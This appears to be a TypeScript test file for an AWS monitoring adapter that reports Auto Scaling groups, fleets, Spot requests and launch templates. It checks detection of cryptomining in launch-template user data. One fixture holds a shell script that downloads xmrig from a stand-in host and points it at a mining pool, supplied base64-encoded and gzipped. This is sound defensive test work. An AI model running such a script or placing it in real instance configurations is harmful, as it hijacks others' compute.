import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { scaling } from '../../../../src/adapters/aws/sources/scaling.ts';
import { type Asked, account, type Said } from '../aws-stand-in.ts';
import { home, lookAt, of, type Sweeping, sweeping } from './sweeping.ts';

let world: Sweeping;
beforeEach(async () => {
  world = await sweeping(scaling);
});
afterEach(() => world.close());

const group = ({ desired, most, created = '2026-02-01T09:00:00.000Z' }: { desired: number; most: number; created?: string }): string =>
  `<DescribeAutoScalingGroupsResponse><DescribeAutoScalingGroupsResult><AutoScalingGroups><member><AutoScalingGroupName>workers</AutoScalingGroupName><MinSize>0</MinSize><MaxSize>${most}</MaxSize><DesiredCapacity>${desired}</DesiredCapacity><DefaultCooldown>1</DefaultCooldown><HealthCheckType>EC2</HealthCheckType><CreatedTime>${created}</CreatedTime><Instances><member><InstanceId>i-1</InstanceId><InstanceType>g5.12xlarge</InstanceType><AvailabilityZone>us-east-1a</AvailabilityZone><LifecycleState>InService</LifecycleState><HealthStatus>Healthy</HealthStatus><ProtectedFromScaleIn>false</ProtectedFromScaleIn></member></Instances></member></AutoScalingGroups></DescribeAutoScalingGroupsResult></DescribeAutoScalingGroupsResponse>`;
const atHome =
  (answers: Record<string, Said | ((asked: Asked) => Said)>) =>
  (asked: Asked): Said | undefined => {
    const said = asked.region === home ? answers[asked.operation] : undefined;
    return typeof said === 'function' ? said(asked) : said;
  };

describe('Auto Scaling groups', () => {
  it('are told with their sizes and machines, at the time they were made', async () => {
    world.answers(atHome({ DescribeAutoScalingGroups: group({ desired: 20, most: 999 }) }));

    const [launcher] = of('launcher.changed', (await world.look()).observations);

    expect(launcher).toMatchObject({
      at: '2026-02-01T09:00:00.000Z',
      resource: `resource:arn:aws:autoscaling:us-east-1:${account}:autoScalingGroup:*:autoScalingGroupName/workers`,
      desired: 20,
      most: 999,
      shape: { type: 'g5.12xlarge', vcpus: 48, gpus: 4 },
    });
  });

  it('are told anew when their size changes, at the time it is noticed, and only once across a restart', async () => {
    world.answers(atHome({ DescribeAutoScalingGroups: group({ desired: 1, most: 2 }) }));
    const first = await world.look();
    world.clock.turn(120);
    const noticed = world.clock.now();
    world.answers(atHome({ DescribeAutoScalingGroups: group({ desired: 20, most: 999 }) }));

    const second = await world.look(first.cursors);
    world.clock.turn(120);
    const third = await world.look(second.cursors);

    const [before] = of('launcher.changed', first.observations);
    const [after] = of('launcher.changed', second.observations);
    expect(after).toMatchObject({ at: noticed, desired: 20, most: 999 });
    expect(after?.id).not.toBe(before?.id);
    expect(of('launcher.changed', third.observations)).toEqual([{ ...after, heard: world.clock.now() }]);
  });

  it('that go back to an earlier size leave the first notice as it was', async () => {
    const sizes = [1, 20, 1];
    const ids = new Set<string>();
    let cursors = {};
    for (const desired of sizes) {
      world.answers(atHome({ DescribeAutoScalingGroups: group({ desired, most: 50 }) }));
      const look = await world.look(cursors);
      cursors = look.cursors;
      for (const one of of('launcher.changed', look.observations)) ids.add(one.id);
      world.clock.turn(120);
    }

    expect(ids.size).toBe(3);
  });
});

describe('fleets and Spot requests', () => {
  it('are told with what they want; those that ended are not', async () => {
    world.answers(
      atHome({
        DescribeFleets: `<DescribeFleetsResponse><fleetSet><item><fleetId>fleet-1</fleetId><fleetState>active</fleetState><createTime>2026-03-01T09:00:00.000Z</createTime><targetCapacitySpecification><totalTargetCapacity>40</totalTargetCapacity><defaultTargetCapacityType>spot</defaultTargetCapacityType></targetCapacitySpecification><launchTemplateConfigs><item><overrides><item><instanceType>c5.4xlarge</instanceType></item></overrides></item></launchTemplateConfigs></item><item><fleetId>fleet-2</fleetId><fleetState>deleted</fleetState></item></fleetSet></DescribeFleetsResponse>`,
        DescribeSpotFleetRequests: `<DescribeSpotFleetRequestsResponse><spotFleetRequestConfigSet><item><spotFleetRequestId>sfr-1</spotFleetRequestId><spotFleetRequestState>active</spotFleetRequestState><createTime>2026-03-01T09:00:00.000Z</createTime><spotFleetRequestConfig><targetCapacity>30</targetCapacity><iamFleetRole>x</iamFleetRole><launchSpecifications><item><instanceType>p3.2xlarge</instanceType></item></launchSpecifications></spotFleetRequestConfig></item></spotFleetRequestConfigSet></DescribeSpotFleetRequestsResponse>`,
        DescribeSpotInstanceRequests: `<DescribeSpotInstanceRequestsResponse><spotInstanceRequestSet><item><spotInstanceRequestId>sir-1</spotInstanceRequestId><type>persistent</type><state>active</state><instanceId>i-1</instanceId><createTime>2026-03-01T09:00:00.000Z</createTime><launchSpecification><instanceType>c5.large</instanceType></launchSpecification></item><item><spotInstanceRequestId>sir-2</spotInstanceRequestId><type>one-time</type><state>active</state><instanceId>i-2</instanceId><createTime>2026-03-01T09:00:00.000Z</createTime></item></spotInstanceRequestSet></DescribeSpotInstanceRequestsResponse>`,
      }),
    );

    const launchers = of('launcher.changed', (await world.look()).observations);

    expect(launchers.map(({ resource, desired, shape }) => [resource.split('/').at(-1), desired, shape?.type, shape?.spot]).sort()).toEqual(
      [
        ['fleet-1', 40, 'c5.4xlarge', true],
        ['sfr-1', 30, 'p3.2xlarge', true],
        ['sir-1', 1, 'c5.large', true],
      ],
    );
  });

  it('that cannot be read are named, and the rest is told', async () => {
    const refused = { error: 'UnauthorizedOperation', status: 403 };
    world.answers(
      atHome({
        DescribeAutoScalingGroups: group({ desired: 1, most: 2 }),
        DescribeFleets: refused,
        DescribeSpotFleetRequests: refused,
      }),
    );

    const { observations } = await world.look();

    expect(lookAt(home, observations)).toMatchObject({
      complete: false,
      gap: 'the Spot fleets and the fleets of us-east-1 could not be read: not allowed (UnauthorizedOperation)',
    });
    expect(of('launcher.changed', observations)).toHaveLength(1);
  });
});

describe('launch templates', () => {
  const list = (latest: number): string =>
    `<DescribeLaunchTemplatesResponse><launchTemplates><item><launchTemplateId>lt-1</launchTemplateId><defaultVersionNumber>1</defaultVersionNumber><latestVersionNumber>${latest}</latestVersionNumber></item></launchTemplates></DescribeLaunchTemplatesResponse>`;
  const version = (number: number, userData: string): string =>
    `<item><launchTemplateId>lt-1</launchTemplateId><versionNumber>${number}</versionNumber><createTime>2026-03-01T0${number}:00:00.000Z</createTime><launchTemplateData><instanceType>c5.24xlarge</instanceType><userData>${userData}</userData></launchTemplateData></item>`;
  const versions = (...items: string[]): string =>
    `<DescribeLaunchTemplateVersionsResponse><launchTemplateVersionSet>${items.join('')}</launchTemplateVersionSet></DescribeLaunchTemplateVersionsResponse>`;
  const reads = () => world.aws.asked.filter((one) => one.operation === 'DescribeLaunchTemplateVersions').length;
  const mining = '#!/bin/sh\ncurl -O https://example.com/xmrig\n./xmrig -o stratum+tcp://pool.example.com:3333';

  it('are read once per version, and what betrays mining is told without the text', async () => {
    world.answers(
      atHome({
        DescribeLaunchTemplates: list(1),
        DescribeLaunchTemplateVersions: versions(version(1, Buffer.from(mining).toString('base64'))),
      }),
    );

    const first = await world.look();
    const second = await world.look(first.cursors);

    const [defined] = of('workload.defined', first.observations);
    expect(defined).toMatchObject({
      at: '2026-03-01T01:00:00.000Z',
      resource: `resource:arn:aws:ec2:us-east-1:${account}:launch-template/lt-1`,
      shape: { type: 'c5.24xlarge', vcpus: 96 },
    });
    expect(defined?.markers).toContainEqual({ kind: 'miner', word: 'xmrig' });
    expect(JSON.stringify(first)).not.toContain('curl');
    expect(of('workload.defined', second.observations)).toEqual([]);
    expect(reads()).toBe(1);
  });

  it('are read again when they get a new version, also a packed one', async () => {
    world.answers(atHome({ DescribeLaunchTemplates: list(1), DescribeLaunchTemplateVersions: versions(version(1, '')) }));
    const first = await world.look();
    const packed = gzipSync(mining).toString('base64');
    world.answers(
      atHome({ DescribeLaunchTemplates: list(2), DescribeLaunchTemplateVersions: versions(version(1, ''), version(2, packed)) }),
    );

    const second = await world.look(first.cursors);

    const newest = of('workload.defined', second.observations).find((one) => one.id.endsWith(':2'));
    expect(newest?.markers).toContainEqual({ kind: 'miner', word: 'xmrig' });
    expect(of('workload.defined', first.observations)[0]).not.toHaveProperty('markers');
  });

  it('whose content may not be read are a gap, while the list stays whole', async () => {
    world.answers(
      atHome({ DescribeLaunchTemplates: list(1), DescribeLaunchTemplateVersions: { error: 'UnauthorizedOperation', status: 403 } }),
    );

    const { observations } = await world.look();

    expect(lookAt(home, observations)).toMatchObject({
      complete: true,
      gap: 'what stands in launch templates of us-east-1 could not be read: not allowed (UnauthorizedOperation)',
    });
  });
});
